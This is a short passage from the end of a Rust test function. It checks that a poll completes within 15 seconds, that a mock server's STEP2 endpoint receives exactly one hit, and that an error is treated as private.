    assert!(took < Duration::from_secs(15), "the poll ran {took:?}");
    assert_eq!(server.hits(STEP2), 1);
    assert_private(&e);
}
